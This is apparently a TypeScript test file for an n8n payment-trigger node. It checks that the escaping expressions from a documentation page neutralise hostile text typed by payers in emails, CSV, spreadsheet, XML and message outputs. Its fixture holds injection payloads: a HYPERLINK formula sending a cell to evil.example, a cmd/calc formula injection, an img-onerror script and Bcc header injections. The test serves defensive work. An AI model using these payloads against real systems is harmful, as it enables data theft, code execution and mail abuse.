// docs/untrusted-text.md: what a payer typed goes through n8n's own nodes, with what the page says to set and
// with the page's own expressions.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { before, describe, it } from 'node:test';
import type { Credential, WorkflowNode } from '../../dev/demo/api.mts';
import { LEDGER } from '../../dev/demo/setup.mts';
import { ROOT } from '../../dev/demo/paths.mts';
import {
	addressOf,
	bodyOf,
	credentialWith,
	deliver,
	itemsOf,
	sampleOf,
	type Item,
} from './trigger.mts';
import { api, cleanSlate, demo, node, runsOf, sandbox, to } from './world.mts';

const EVENT = 'page.payment.settled';
const PAGE = readFileSync(join(ROOT, 'docs/untrusted-text.md'), 'utf8');

/** The expression that the page gives under this heading, for this column. */
function expression(heading: string, column: string): string {
	const block = PAGE.split(`### Expression for ${heading}\n\n\`\`\`text\n`)[1];
	assert.ok(block, `the page has no expression for ${heading}`);
	const text = block.slice(0, block.indexOf('\n```'));
	return `=${text.replace(/\$json\.(name|email)\b/, `$json.${column}`)}`;
}

const TYPED = {
	name: '=HYPERLINK("https://evil.example/?"&A1,"Receipt")',
	student_name: `<img src=x onerror="alert('1')">Asha & Ravi`,
	phone: '+919876543210',
	email: 'asha@example.com, thief@example.com\r\nBcc: other@example.com',
	identifier: "@SUM(1+1)*cmd|' /C calc'!A0",
	custom_identifier: ' \t=1+1',
	grade: 'IV\r\nBcc: thief@example.com\r\n\r\n<b>Hello</b>',
	grade_name: 'See https://evil.example/pay\u0001or www.evil.example now,\nplease',
};
const COLUMNS = Object.keys(TYPED);

const smtp = async () =>
	(await api.call<Credential[]>('GET', '/credentials')).find(({ type }) => type === 'smtp');

interface Mail {
	to: string[];
	subject: string;
	text: string;
	html: string;
}

/** Each of these follows the trigger on a way of its own. */
type Way = WorkflowNode[];

async function ways(): Promise<Way[]> {
	const credential = (await smtp()) as Credential;
	const mail = (name: string, parameters: Item) => [
		node(
			name,
			'n8n-nodes-base.emailSend',
			2.1,
			{
				fromEmail: 'fees@example.com',
				toEmail: 'office@example.com',
				subject: name,
				options: { appendAttribution: false },
				...parameters,
			},
			{ credentials: { smtp: { id: credential.id, name: credential.name } } },
		),
	];
	const fields = (name: string, values: Array<[string, string]>) =>
		node(name, 'n8n-nodes-base.set', 3.4, {
			assignments: {
				assignments: values.map(([column, value]) => ({
					id: randomUUID(),
					name: column,
					type: 'string',
					value,
				})),
			},
			options: {},
		});
	const as = (heading: string) =>
		COLUMNS.map((column): [string, string] => [column, expression(heading, column)]);
	const asTyped = COLUMNS.map((column): [string, string] => [column, `={{ $json.${column} }}`]);
	const file = (name: string, operation: string) => [
		node(`${name} file`, 'n8n-nodes-base.convertToFile', 1.1, {
			operation,
			binaryPropertyName: 'data',
			options: {},
		}),
		node(name, 'n8n-nodes-base.extractFromFile', 1.1, {
			operation: operation === 'csv' ? 'text' : 'binaryToPropery',
			binaryPropertyName: 'data',
			destinationKey: 'data',
			options: {},
		}),
	];
	const html = expression('HTML and XML', 'student_name').slice(1);
	return [
		mail('HTML as it came', { emailFormat: 'html', html: '=<p>{{ $json.student_name }}</p>' }),
		mail('HTML', { emailFormat: 'html', html: `=<p>${html}</p>` }),
		mail('Text', { emailFormat: 'text', text: '={{ $json.student_name }}' }),
		mail('Subject', { emailFormat: 'text', subject: '=Paid: {{ $json.grade }}', text: 'x' }),
		mail('To, as it came', { emailFormat: 'text', toEmail: '={{ $json.email }}', text: 'x' }),
		mail('To', { emailFormat: 'text', toEmail: expression('an address', 'email'), text: 'x' }),
		[
			node('Table', 'n8n-nodes-base.dataTable', 1.1, {
				resource: 'row',
				operation: 'insert',
				dataTableId: { __rl: true, mode: 'name', value: LEDGER },
				columns: {
					mappingMode: 'defineBelow',
					value: {
						row_key: '={{ $json.row_key }}',
						name: '={{ $json.name }}',
						identifier: '={{ $json.identifier }}',
					},
					schema: [],
				},
				options: {},
			}),
		],
		[fields('Columns for CSV as it came', asTyped), ...file('CSV as it came', 'csv')],
		[fields('Columns for CSV', as('Excel and CSV')), ...file('CSV', 'csv')],
		[fields('Columns for XLSX', asTyped), ...file('XLSX', 'xlsx')],
		[fields('Columns for ODS', asTyped), ...file('ODS', 'ods')],
		[
			fields('Columns for XML', as('messages')),
			node('XML', 'n8n-nodes-base.xml', 1, {
				mode: 'jsonToxml',
				dataPropertyName: 'data',
				options: {},
			}),
			node('XML read again', 'n8n-nodes-base.xml', 1, {
				mode: 'xmlToJson',
				dataPropertyName: 'data',
				options: {},
			}),
		],
		[
			fields('Own XML', [
				[
					'data',
					`=<ENVELOPE>${as('HTML and XML')
						.map(([column, value]) => `<${column}>${value.slice(1)}</${column}>`)
						.join('')}</ENVELOPE>`,
				],
			]),
			node('Own XML read again', 'n8n-nodes-base.xml', 1, {
				mode: 'xmlToJson',
				dataPropertyName: 'data',
				options: {},
			}),
		],
		[fields('Excel', as('Excel and CSV'))],
		[fields('Messages', as('messages'))],
	];
}

describe('text that strangers typed', () => {
	const out = new Map<string, Item>();
	let mails: Mail[];

	const mailOf = (subject: string) => mails.find((mail) => mail.subject === subject);

	before(async () => {
		await cleanSlate();
		const { id, name } = await credentialWith({});
		const trigger = node(
			'Jodo Trigger',
			'n8n-nodes-jodo.jodoTrigger',
			1,
			{ events: [EVENT], failureNotificationEmail: 'office@example.com' },
			{ webhookId: randomUUID(), credentials: { jodoApi: { id, name } } },
		);
		const all = await ways();
		const connections = Object.fromEntries([
			[trigger.name, { main: [to(...all.map(([first]) => first?.name ?? ''))] }],
			...all.flatMap((way) =>
				way.slice(1).map((next, i) => [way[i]?.name, { main: [to(next.name)] }]),
			),
		]);
		const workflow = await api.createWorkflow({
			name: 'Text that strangers typed',
			nodes: [trigger, ...all.flat()],
			connections,
		});
		await api.publish(workflow.id);
		const { grade_name, ...order } = TYPED;
		const payload = sampleOf(EVENT).payload as { order: Item };
		Object.assign(payload.order, order);
		const body = bodyOf(EVENT, { ...payload, student: { grade: { name: grade_name } } });
		assert.equal(await deliver(addressOf(workflow), body), 200);
		const [run] = await runsOf(workflow, 1);
		assert.ok(run);
		for (const { name } of [trigger, ...all.flat()]) {
			const items = await itemsOf(run, name);
			assert.equal(items.length, 1, name);
			out.set(name, items[0] as Item);
		}
		mails = await sandbox.admin<Mail[]>('GET', '/inbox');
	});

	it('leaves the trigger as it came', () => {
		const row = out.get('Jodo Trigger') as Item;
		assert.deepEqual(Object.fromEntries(COLUMNS.map((column) => [column, row[column]])), TYPED);
	});

	it('would act in an e-mail in HTML, and does not with the expression, or as text', () => {
		assert.match(mailOf('HTML as it came')?.html ?? '', /<img src=x onerror=/);
		assert.equal(
			mailOf('HTML')?.html.trim(),
			`<p>&#60;img src=x onerror=&#34;alert(&#39;1&#39;)&#34;&#62;Asha &#38; Ravi</p>`,
		);
		const text = mailOf('Text');
		assert.equal(text?.text.trim(), TYPED.student_name);
		assert.equal(text.html, '');
	});

	it('adds no recipient by a line break in the subject', () => {
		const mail = mails.find(({ subject }) => subject.startsWith('Paid:'));
		assert.deepEqual(mail?.to, ['office@example.com']);
		assert.match(mail.subject, /^Paid: IV Bcc: thief@example\.com/);
		assert.equal(mail.text.trim(), 'x');
	});

	it('would send to every address in the column, and does not with the expression', () => {
		assert.ok((mailOf('To, as it came')?.to.length ?? 0) > 1);
		assert.deepEqual(mailOf('To')?.to, ['asha@example.com']);
	});

	it('is text in a Data Table', async () => {
		const { row_key } = out.get('Jodo Trigger') as Item;
		const row = (await api.rows(LEDGER)).find((each) => each['row_key'] === row_key);
		assert.equal(row?.['name'], TYPED.name);
		assert.equal(row?.['identifier'], TYPED.identifier);
	});

	it('would be a formula in a CSV file, and is not with the expression', () => {
		const cells = (name: string) =>
			String((out.get(name) as Item)['data'])
				.replace(/^\uFEFF/, '')
				.match(/(?<=^|[,\n])("(?:[^"]|"")*"|[^,"\n]*)/g)
				?.slice(COLUMNS.length, 2 * COLUMNS.length)
				.map((cell) => cell.replace(/^"([^]*)"$/, '$1').replaceAll('""', '"'));
		assert.deepEqual(cells('CSV as it came'), Object.values(TYPED));
		for (const cell of cells('CSV') ?? []) assert.doesNotMatch(cell, /^\s*[=+\-@]/);
		assert.equal(cells('CSV')?.[0], `'${TYPED.name}`);
		assert.equal(cells('CSV')?.[2], `'${TYPED.phone}`);
	});

	it('is text in files of Excel and OpenDocument', () => {
		for (const [name, formula] of [
			['XLSX', /<f[ >]/],
			['ODS', /table:formula/],
		] as const) {
			const base64 = String((out.get(name) as Item)['data']);
			const content = Buffer.from(base64, 'base64').toString();
			assert.match(content, /=HYPERLINK/, `${name} is compressed, or lacks the cell`);
			assert.doesNotMatch(content, formula);
		}
	});

	it('is text in XML, whoever writes it', () => {
		const own = (out.get('Own XML read again') as { ENVELOPE: Item }).ENVELOPE;
		assert.deepEqual(Object.keys(own), COLUMNS);
		assert.equal(own['student_name'], TYPED.student_name);
		assert.equal(own['name'], TYPED.name);
		const { root } = out.get('XML read again') as { root: Item };
		assert.deepEqual(Object.keys(root), COLUMNS);
		assert.equal(root['student_name'], TYPED.student_name);
		for (const name of ['XML', 'Own XML']) {
			assert.doesNotMatch(String((out.get(name) as Item)['data']), /<img|<b>|\u0001/);
		}
	});

	it('is one short line without links in a message, and marked for Excel', () => {
		const message = out.get('Messages') as Item;
		assert.equal(message['grade_name'], 'See … or … now, please');
		assert.equal(message['phone'], TYPED.phone);
		for (const column of COLUMNS) {
			assert.match(String(message[column]), /^[^\u0000-\u001f]{1,60}$/);
			assert.doesNotMatch(String(message[column]), /:\/\/|www\./i);
		}
		assert.equal((out.get('Excel') as Item)['custom_identifier'], `'${TYPED.custom_identifier}`);
		assert.equal((out.get('Excel') as Item)['student_name'], TYPED.student_name);
	});

	it("finds the setting of Google Sheets where the page says it is, and not as the node's default", async () => {
		const answer = await fetch(`${demo.n8n.url}/types/nodes.json`, { headers: api.session() });
		type Option = {
			name: string;
			displayName: string;
			value?: string;
			default?: unknown;
			options?: Option[];
			displayOptions?: { show?: { operation?: string[] } };
		};
		const types = (await answer.json()) as Array<{ name: string; properties: Option[] }>;
		const sheets = types.filter(({ name }) => name === 'n8n-nodes-base.googleSheets');
		for (const operation of ['append', 'appendOrUpdate', 'update']) {
			const cellFormats = sheets
				.flatMap(({ properties }) => properties)
				.filter(
					({ name, displayOptions }) =>
						name === 'options' && displayOptions?.show?.operation?.includes(operation),
				)
				.flatMap(({ options }) => options ?? [])
				.filter(({ name }) => name === 'cellFormat');
			assert.ok(cellFormats.length, operation);
			for (const cellFormat of cellFormats) {
				assert.equal(cellFormat.displayName, 'Cell Format');
				assert.equal(cellFormat.default, 'USER_ENTERED');
				const raw = cellFormat.options?.find(({ value }) => value === 'RAW');
				assert.equal(raw?.name ?? raw?.displayName, 'Let n8n format');
			}
		}
	});
});
